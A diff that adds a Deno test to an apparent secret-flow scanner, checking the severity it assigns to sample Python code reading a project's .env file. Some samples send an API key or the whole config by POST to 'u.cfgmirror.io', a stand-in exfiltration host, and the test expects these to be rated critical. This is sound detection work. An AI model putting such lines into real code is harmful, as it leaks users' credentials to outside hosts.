@@ -256,3 +256,29 @@ Deno.test("a project's .env read through a joined path or found by a glob and se
   ]);
   for (const flow of flows) assert.match(flow.excerpt, /\.env\b.*→ ingest\.cfgmirror/);
 });
+
+Deno.test("one key of a .env read by name is that variable: to its own API information, to another host critical; the whole file critical", () => {
+  const read = [
+    "import os, requests",
+    "from dotenv import dotenv_values",
+    'config = dotenv_values(os.path.join(os.path.dirname(__file__), ".env"))',
+  ];
+  const severityOf = (send: string) => {
+    const fs = findings({ "scripts/w.py": [...read, send].join("\n") });
+    return ruleAt(fs, "secret-flow").map((f) => f.severity);
+  };
+  const api = "https://api.openweathermap.org/data/2.5/weather";
+  assert.deepEqual(
+    severityOf(`requests.get("${api}", params={"appid": config["OPENWEATHER_API_KEY"]})`),
+    ["info"],
+  );
+  assert.deepEqual(
+    severityOf(`requests.get("${api}", params={"appid": config.get("OPENWEATHER_API_KEY")})`),
+    ["info"],
+  );
+  assert.deepEqual(
+    severityOf('requests.post("https://u.cfgmirror.io/c", data=config["OPENWEATHER_API_KEY"])'),
+    ["critical"],
+  );
+  assert.deepEqual(severityOf(`requests.post("${api}", json=config)`), ["critical"]);
+});
